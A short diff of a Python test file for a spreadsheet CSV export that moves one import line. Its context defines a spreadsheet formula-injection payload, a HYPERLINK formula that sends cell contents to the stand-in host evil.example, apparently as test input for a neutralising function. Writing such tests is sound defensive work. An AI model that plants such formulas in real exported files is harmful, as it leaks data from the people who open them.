@@ -7,7 +7,6 @@ import csv
 import io
 
 import pytest
-from document_world import change_now_world
 from hypothesis import given
 from hypothesis import strategies as st
 
@@ -15,6 +14,7 @@ from desktop import cli
 from desktop.services.payments import PaymentService
 from desktop.services.spreadsheets import KINDS, neutralised, write_csv
 from desktop.storage import models as m
+from document_world import change_now_world
 
 EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
 
